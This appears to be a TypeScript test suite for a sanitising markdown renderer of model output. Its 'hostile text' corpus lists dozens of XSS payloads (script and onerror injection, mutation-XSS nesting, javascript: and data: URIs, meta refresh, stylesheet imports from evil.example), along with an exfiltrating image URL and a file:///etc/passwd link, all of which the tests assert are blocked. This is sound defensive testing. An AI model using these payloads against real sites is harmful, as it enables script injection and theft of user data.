import { MarkdownBlocks } from './markdown-blocks.js';
import { safeFragment } from './safe-fragment.js';

const read = (text: string, isComplete = true) => new MarkdownBlocks().read(text, isComplete);

/** What stands in the page in the end. */
function shown(text: string, isComplete = true): HTMLElement {
  const element = document.createElement('div');
  for (const block of read(text, isComplete)) element.append(safeFragment(block));
  return element;
}
const formulasIn = (text: string) =>
  [...shown(text).querySelectorAll('.formula')].map(({ textContent }) => textContent);

describe('text of a model', () => {
  it('becomes headings, lists, tables and code', () => {
    const page = shown('# Title\n\n1. one\n2. two\n\n| a | b |\n| - | -: |\n| 1 | 2 |\n\n```ts\nlet a = 1 < 2;\n```');
    expect(page.querySelector('h3')?.textContent).toBe('Title');
    expect(page.querySelectorAll('ol > li')).toHaveLength(2);
    expect([...page.querySelectorAll('td')].map(({ textContent }) => textContent)).toEqual(['1', '2']);
    expect(page.querySelector('td:last-child')?.getAttribute('align')).toBe('right');
    expect(page.querySelector('code.language-ts')?.textContent).toBe('let a = 1 < 2;');
  });

  it('keeps the lines that it was written in, and the few bare tags that people write', () => {
    expect(shown('one\ntwo').innerHTML).toContain('one<br>two');
    expect(shown('| a |\n| - |\n| H<sub>2</sub>O<br/>x |').querySelector('td')?.innerHTML).toBe('H<sub>2</sub>O<br>x');
  });

  it('follows links to the web and to mail only, in another tab that knows nothing of this one', () => {
    const [web, mail] = shown('[a](https://a.example/x?y=1&z=2) [b](mailto:b@example.org)').querySelectorAll('a');
    expect(web?.href).toBe('https://a.example/x?y=1&z=2');
    expect(mail?.href).toBe('mailto:b@example.org');
    expect([web?.target, web?.rel]).toEqual(['_blank', 'noopener noreferrer']);
    for (const address of ['/graphql?query=x', '#top', '//evil.example', 'ftp://a.example', 'file:///etc/passwd'])
      expect(shown(`[a](${address})`).querySelector('a')).toBeNull();
  });

  it('B51 fetches no image: what is not in the text itself is a link that names its host', () => {
    const page = shown('![chart](https://evil.example/x.png?talk=secret) ![own](data:image/png;base64,AAAA)');
    expect([...page.querySelectorAll('img')].map(({ src }) => src)).toEqual(['data:image/png;base64,AAAA']);
    expect(page.querySelector('a')?.textContent).toBe('🖼 chart (evil.example)');
    for (const address of ['/files/a/b/c', '/files/../graphql', 'data:image/svg+xml;base64,AAAA', '//evil.example/x'])
      expect(shown(`![](${address})`).querySelector('img')).toBeNull();
  });

  it('shows images that we keep, from us', () => {
    const kept = `/files/files/01a22d35-8911-7592-96ba-ec1358270385/${'0f'.repeat(32)}`;
    for (const address of [kept, `${location.origin}${kept}`])
      expect(shown(`![x](${address})`).querySelector('img')?.getAttribute('src')).toBe(kept);
    expect(shown(`![x](https://evil.example${kept})`).querySelector('img')).toBeNull();
  });
});

describe('B50 hostile text', () => {
  const CORPUS = [
    '<script>alert(1)</script>',
    'a <script>alert(1)</script> b',
    '<img src=x onerror=alert(1)>',
    'a <code><img src=x onerror=alert(1)></code>',
    '<svg onload=alert(1)><animate onbegin=alert(1)></svg>',
    '<svg><style><img src=x onerror=alert(1)></style></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<form action=https://evil.example><input name=a><form><button>go</button></form></form>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<a href="javascript:alert(1)">x</a>',
    '<b onmouseover=alert(1)>x</b>',
    '<style>@import "https://evil.example/x.css"</style>',
    '<base href="https://evil.example/"><link rel=stylesheet href="https://evil.example/x.css">',
    '<meta http-equiv=refresh content="0;url=https://evil.example">',
    '<!--><img src=x onerror=alert(1)>-->',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert(1))',
    '[x](java&#10;script:alert(1))',
    '[x](&#x6A;avascript:alert(1))',
    '[x](\u0001javascript:alert(1))',
    '[x](vbscript:x)',
    '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
    '[x](data:image/svg+xml,<svg onload=alert(1)>)',
    '<javascript:alert(1)>',
    '[x]: javascript:alert(1)\n\n[x]',
    '![x](javascript:alert(1))',
    '![x" onerror="alert(1)](https://evil.example/a)',
    '![x](https://evil.example/a"onerror="alert(1))',
    '[x](https://evil.example/"onclick="alert(1))',
    '[a](<https://evil.example/"><img src=x onerror=alert(1)>>)',
    '```"><img src=x onerror=alert(1)>\nx\n```',
    '```mermaid\n<img src=x onerror=alert(1)>\n```',
    '`<img src=x onerror=alert(1)>`',
    '$<img src=x onerror=alert(1)>$',
    '$$\n</span><img src=x onerror=alert(1)>\n$$',
    '\\(<svg onload=alert(1)>',
    '| <img src=x onerror=alert(1)> |\n| - |\n| <script>alert(1)</script> |',
    '# <svg/onload=alert(1)>',
    '- [ ] <img src=x onerror=alert(1)>',
    '&lt;img src=x onerror=alert(1)&gt;',
  ];
  const TAGS = [
    'a',
    'b',
    'br',
    'code',
    'h3',
    'li',
    'ol',
    'p',
    'pre',
    'span',
    'table',
    'tbody',
    'td',
    'th',
    'thead',
    'tr',
    'ul',
  ];
  const ATTRIBUTES = ['href', 'target', 'rel', 'class'];

  it.each(CORPUS.flatMap((text) => [[text, true] as const, [text, false] as const]))(
    'is text: %j (complete: %s)',
    (text, isComplete) => {
      const elements = [...shown(text, isComplete).querySelectorAll('*')];
      const tags = elements.map(({ localName }) => localName);
      expect(tags.filter((tag) => !TAGS.includes(tag))).toEqual([]);
      const attributes = elements.flatMap((element) => element.getAttributeNames());
      expect(attributes.filter((name) => !ATTRIBUTES.includes(name))).toEqual([]);
      for (const link of elements.filter((element) => element instanceof HTMLAnchorElement))
        expect(link.protocol).toMatch(/^https?:$/);
    },
  );

  it.each(CORPUS)('is stopped also where markup came from elsewhere: %j', (html) => {
    const page = document.createElement('div');
    page.append(safeFragment(html));
    expect(
      page.querySelector('script,style,svg,math,iframe,form,input,button,base,link,meta,noscript,object'),
    ).toBeNull();
    const names = [...page.querySelectorAll('*')].flatMap((element) => element.getAttributeNames());
    expect(names.filter((name) => name.startsWith('on') || name === 'style' || name === 'id')).toEqual([]);
    for (const { protocol } of page.querySelectorAll('a')) expect(protocol).toMatch(/^(https?:|mailto:|:)$/);
  });

  it('does not stop the page, however deep or long it is', () => {
    const started = Date.now();
    const long = ['>', '- ', '[', '**', '`', '$$', '\\(', '<', '![', '| '].map((part) => part.repeat(20_000));
    for (const text of long) for (const isComplete of [true, false]) read(text, isComplete);
    expect(Date.now() - started).toBeLessThan(20_000);
  });
});

describe('a formula', () => {
  it('stands between the signs that models write', () => {
    expect(formulasIn('$a_1*b*c$ and \\(x^2\\)')).toEqual(['a_1*b*c', 'x^2']);
    expect(formulasIn('$$\nE\n= mc^2\n- 1\n$$\n\n\\[ \\frac12 \\]')).toEqual(['E\n= mc^2\n- 1', '\\frac12']);
    expect(shown('$$a$$').querySelector('.formula')?.className).toBe('formula display');
  });

  it('is not a price, an escape or code', () => {
    for (const text of ['$5 and $10', 'from $5-$10', 'a \\$x\\$ b', '`$x$`', '```\n$$x$$\n```', 'echo $$'])
      expect(formulasIn(text)).toEqual([]);
  });
});

describe('text that still comes', () => {
  it('shows a formula that has only begun as it is written', () => {
    for (const text of ['so \\(a_1 *b* c', 'so $$a_1 *b* c', '$$\na\n= *b* c\n- d', '\\[\n1. *a*']) {
      const page = shown(text, false);
      expect(page.querySelector('em, ol, ul, h3, h4')).toBeNull();
      expect(page.querySelector('code.open-formula')).not.toBeNull();
      expect(shown(text).querySelector('code.open-formula')).toBeNull();
    }
  });

  it('shows a fence that has only begun as code, without the signs that begin to close it', () => {
    for (const text of ['```js\nlet a', '```js\nlet a\n', '```js\nlet a\n`', '```js\nlet a\n``']) {
      const code = shown(text, false).querySelector('code');
      expect(code?.className).toBe('open language-js');
      expect(code?.textContent.trim()).toBe('let a');
    }
    expect(shown('```js\nlet a\n```', false).querySelector('code')?.className).toBe('language-js');
    expect(shown('```js\nlet a').querySelector('code')?.className).toBe('language-js');
  });

  it('ends as if it had come at once, and leaves finished blocks as they are', () => {
    const text =
      '# One\n\ntwo *three*\n\n- a\n\n- b\n  - c\n\n```js\nlet a;\n\n\nlet b;\n```\n\n| a |\n| - |\n| [l][r] |\n\n$$\nx\n$$\n\nend\n\n[r]: https://r.example';
    const reader = new MarkdownBlocks();
    let before: readonly string[] = [];
    for (let end = 1; end <= text.length; end += 1) {
      const blocks = reader.read(text.slice(0, end), false);
      const finished = before.slice(0, -1);
      expect(blocks.slice(0, finished.length)).toEqual(finished);
      before = blocks;
    }
    expect(reader.read(text, true)).toEqual(read(text));
    expect(shown(text).querySelector('td a')).not.toBeNull();
  });

  it('is read anew when it becomes another text', () => {
    const reader = new MarkdownBlocks();
    reader.read('one\n\ntwo\n\nthree', false);
    expect(reader.read('other', false)).toEqual(read('other'));
  });
});
